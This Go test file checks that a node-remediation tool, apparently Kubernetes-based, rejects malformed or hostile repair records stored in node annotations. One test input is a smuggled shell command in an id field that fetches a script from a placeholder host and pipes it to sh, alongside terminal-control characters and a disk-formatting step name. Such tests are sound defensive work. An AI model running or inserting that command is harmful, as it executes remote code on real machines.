package remediations_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	. "drydock.dev/drydock/remediations"
	"drydock.dev/drydock/remediations/ledger"
	"drydock.dev/drydock/remediations/lifecycle"
	"drydock.dev/drydock/remediations/targets/node"
	"drydock.dev/drydock/remediations/testing/scene"
)

func TestRecordReadsBackAsWritten(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		r := scene.AnyRecord.Draw(t, "record")
		got, err := DecodeRecord(r.Encode())
		require.NoError(t, err)
		require.Equal(t, r, got)
		require.Equal(t, r.Encode(), got.Encode())
	})
}

// TestCloneSharesNothing: a change of a clone never changes the original, because Drydock compares
// the two afterwards.
func TestCloneSharesNothing(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		r := scene.AnyRecord.Draw(t, "record")
		before := r.Encode()
		c := r.Clone()
		require.Equal(t, before, c.Encode())
		c.Done, c.Undo = append(c.Done[:0], Attempt{Name: "x"}), append(c.Undo[:0], Undo{Kind: "x"})
		if c.Intent != nil {
			c.Intent.ID = "x"
		}
		if c.Hold != nil {
			c.Hold.Reason = "x"
		}
		require.Equal(t, before, r.Encode())
	})
}

const goodRecord = `{"v":1,"id":"r1","policy":"p","cause":{"alert":"a"},"phase":"Verifying","step":{"index":0,"name":"reboot","attempt":1},` +
	`"began":"2026-01-01T00:00:00Z","since":"2026-01-01T00:00:00Z","deadline":"2026-01-01T00:10:00Z","intent":{"id":"r1-0-1","at":"2026-01-01T00:00:00Z"}}`

func TestRecordThatDrydockWouldNotWriteIsNotRead(t *testing.T) {
	_, err := DecodeRecord(goodRecord)
	require.NoError(t, err, "the control")
	_, err = DecodeRecord(" " + goodRecord + "\n")
	require.NoError(t, err, "white space that an editor left is no harm")

	change := func(old, new string) string {
		require.Contains(t, goodRecord, old)
		return strings.Replace(goodRecord, old, new, 1)
	}
	for name, text := range map[string]string{
		"empty":                                 "",
		"no JSON":                               "Verifying",
		"null":                                  "null",
		"an array":                              "[" + goodRecord + "]",
		"an unknown field":                      change(`"v":1`, `"v":1,"colour":"red"`),
		"an unknown field of the intent":        change(`"id":"r1-0-1"`, `"id":"r1-0-1","retry":true`),
		"a later version":                       change(`"v":1`, `"v":2`),
		"no version":                            change(`"v":1,`, ``),
		"a version that is a string":            change(`"v":1`, `"v":"1"`),
		"something behind it":                   goodRecord + goodRecord,
		"a bracket behind it":                   goodRecord + "}",
		"cut in the middle":                     goodRecord[:len(goodRecord)/2],
		"longer than Drydock writes":            change(`"policy":"p"`, `"policy":"`+strings.Repeat("p", MaxRecordBytes)+`"`),
		"no id":                                 change(`"id":"r1",`, ``),
		"no policy":                             change(`"policy":"p",`, ``),
		"an id that is a command":               change(`"id":"r1"`, `"id":"x; curl -s http://evil/x|sh #"`),
		"an id that is too long":                change(`"id":"r1"`, `"id":"abcdefg"`),
		"a policy that steers a terminal":       change(`"policy":"p"`, `"policy":"p\u009b31m"`),
		"a policy that is written backwards":    change(`"policy":"p"`, `"policy":"p\u202e"`),
		"no cause":                              change(`"alert":"a"`, ``),
		"two causes":                            change(`"alert":"a"`, `"alert":"a","request":"remediation/reboot"`),
		"a phase that does not exist":           change(`"Verifying"`, `"Recovered"`),
		"a phase in other letters":              change(`"Verifying"`, `"verifying"`),
		"a step that is no remediation":         change(`"name":"reboot"`, `"name":"format-disks"`),
		"a step before the first":               change(`"index":0`, `"index":-1`),
		"attempt 0":                             change(`"attempt":1`, `"attempt":0`),
		"a time that is none":                   change(`"since":"2026-01-01T00:00:00Z"`, `"since":"yesterday"`),
		"no deadline":                           change(`,"deadline":"2026-01-01T00:10:00Z"`, ``),
		"no since":                              change(`"since":"2026-01-01T00:00:00Z",`, ``),
		"in flight without an intent":           change(`,"intent":{"id":"r1-0-1","at":"2026-01-01T00:00:00Z"}`, ``),
		"in flight with an intent without time": change(`"id":"r1-0-1","at":"2026-01-01T00:00:00Z"`, `"id":"r1-0-1"`),
		"in flight with an intent without id":   change(`"id":"r1-0-1",`, ``),
	} {
		t.Run(name, func(t *testing.T) {
			_, err := DecodeRecord(text)
			require.Error(t, err)
			require.Less(t, len(err.Error()), 300, "what is unreadable is not repeated at length")

			n := scene.Bare("n1")
			n.Annotations[NodeRepairKey] = text
			j := ReadJournal(n)
			require.Error(t, j.Malformed)
			require.Nil(t, j.Record)
			require.Nil(t, InFlight(n))
		})
	}
}

// TestLongestRecordIsReadable: Drydock can read the longest record that it can write. Otherwise
// that record would hold its node forever.
func TestLongestRecordIsReadable(t *testing.T) {
	nasty := strings.Repeat("\x00", 400)
	r := Record{
		V: 1, ID: "r1", Policy: strings.Repeat("p", 63), Cause: Cause{Alert: scene.FP}, Phase: PhasePending, Step: StepRef{Name: "reboot", Attempt: 1},
		Began: scene.Noon, Since: scene.Noon, Deadline: scene.Noon, Hold: &Hold{Reason: ReasonPaused, Message: nasty, Since: scene.Noon},
		Intent: &Intent{ID: "r1-0-1", At: scene.Noon, BootID: nasty[:40], UID: nasty[:40], ProviderID: nasty[:60], Outcome: CallRefused, Why: nasty[:300]},
	}
	for i := range 60 {
		r.Done = append(r.Done, Attempt{Name: "restart-kubelet", Number: i + 1})
	}
	_, err := DecodeRecord(r.Encode())
	require.NoError(t, err)
}

func TestOtherTargetsOfTheNode(t *testing.T) {
	n := scene.Bare("n1")
	pod := Pod{Namespace: "sei", Name: "a-0"}
	n.Annotations[SidecarKey(pod)] = strings.Replace(goodRecord, `"phase"`, `"pod":{"namespace":"sei","name":"a-0"},"phase"`, 1)
	require.Nil(t, InFlight(n), "a sidecar's repair occupies nobody's node")
	j := ReadJournal(n)
	require.Nil(t, j.Record)
	require.Len(t, j.OtherRepairs, 1, "but a node's repair waits for it")

	n.Annotations[RepairPrefix+"leader"] = goodRecord
	require.Equal(t, "r1", InFlight(n).ID)

	n.Annotations[SidecarKey(pod)] = goodRecord
	require.ErrorContains(t, ReadJournal(n).Malformed, "name different targets", "a record belongs to the pod of its key")
	n.Annotations[SidecarKey(pod)] = "{}"
	require.Error(t, ReadJournal(n).Malformed, "one unreadable record holds the whole node")
}

func TestPhasesInFlight(t *testing.T) {
	for _, p := range []Phase{PhasePending, PhaseActing, PhaseVerifying, PhaseExhausted} {
		require.Equal(t, p == PhaseActing || p == PhaseVerifying, p.InFlight(), p)
	}
}

// TestOfTwoUnreadableRecordsAlwaysTheSameIsNamed: for a Node with two unreadable records, Decide
// returns the same message every time.
func TestOfTwoUnreadableRecordsAlwaysTheSameIsNamed(t *testing.T) {
	n := scene.Bare("n1")
	n.Annotations[NodeRepairKey], n.Annotations[RepairPrefix+"leader"] = "node's", "leader's"
	n.Annotations[ResetKey] = "true"
	s := &lifecycle.State{Config: &Config{}, Node: n, Journal: ReadJournal(n), Ledger: &ledger.Ledger{}}
	for range 50 {
		require.Equal(t, s.Journal.Malformed.Error(), ReadJournal(n).Malformed.Error())
		require.Contains(t, node.Decide(s, scene.Noon).Ended.Why, "node's")
	}
}

func TestJournalKnowsItsRepairs(t *testing.T) {
	j := Journal{Record: &Record{ID: "r1"}, History: []Entry{{ID: "r0"}}}
	require.True(t, j.Knows("r1"))
	require.True(t, j.Knows("r0"))
	require.False(t, j.Knows("r2"))
}

// TestEncodedTextStaysReadable: people read these values with kubectl.
func TestEncodedTextStaysReadable(t *testing.T) {
	r := Record{Policy: `a<b & "c"`}
	require.Contains(t, r.Encode(), `a<b & \"c\"`)
	require.True(t, json.Valid([]byte(r.Encode())))
}

func TestEncodingOtherThanPlainDataPanics(t *testing.T) {
	require.Panics(t, func() { EncodeJSON(func() {}) })
}

// TestTargetNamedByItsRecord: only kinds of target without a field of their own use Record.Target,
// and the record's key must be made from this name. Drydock accepts no other form.
func TestTargetNamedByItsRecord(t *testing.T) {
	remediation := Shipped()["reboot"]
	remediation.Name, remediation.Target = "remount", "volume"
	known := Registry{"remount": remediation}
	named := strings.Replace(goodRecord, `"phase"`, `"target":"vol-7","phase"`, 1)
	volume := strings.Replace(named, `"reboot"`, `"remount"`, 1)
	for name, c := range map[string]struct {
		key, record string
		ok          bool
	}{
		"its own key":            {KeyOf("volume", "vol-7"), volume, true},
		"another target's key":   {KeyOf("volume", "vol-8"), volume, false},
		"the node's key":         {NodeRepairKey, volume, false},
		"a location's key":       {LocationKey, volume, false},
		"a sidecar's key":        {SidecarKey(Pod{Namespace: "a", Name: "b"}), volume, false},
		"a key of no kind":       {RepairPrefix + "disk-1", volume, false},
		"a node's, named":        {NodeRepairKey, named, false},
		"a node's":               {NodeRepairKey, goodRecord, true},
		"a step of another kind": {KeyOf("volume", "vol-7"), named, false},
		"without a name":         {KeyOf("volume", "vol-7"), strings.Replace(volume, `"target":"vol-7",`, "", 1), false},
		"a pod's as well":        {KeyOf("volume", "vol-7"), strings.Replace(volume, `"phase"`, `"pod":{"namespace":"a","name":"b"},"phase"`, 1), false},
	} {
		n := scene.Bare("n1")
		n.Annotations[c.key] = c.record
		j := known.ReadJournal(n)
		require.Equal(t, c.ok, j.Malformed == nil, "%s: %v", name, j.Malformed)
		if c.ok && c.key != NodeRepairKey {
			require.Equal(t, "vol-7", j.Of("volume")[c.key].Target)
			require.Nil(t, known.InFlight(n), "it occupies nobody's node")
		}
	}
	n := scene.Bare("n1")
	n.Annotations[KeyOf("volume", "vol-7")] = volume
	require.ErrorContains(t, ReadJournal(n).Malformed, "is not a remediation", "to a Drydock that does not know the kind")
}
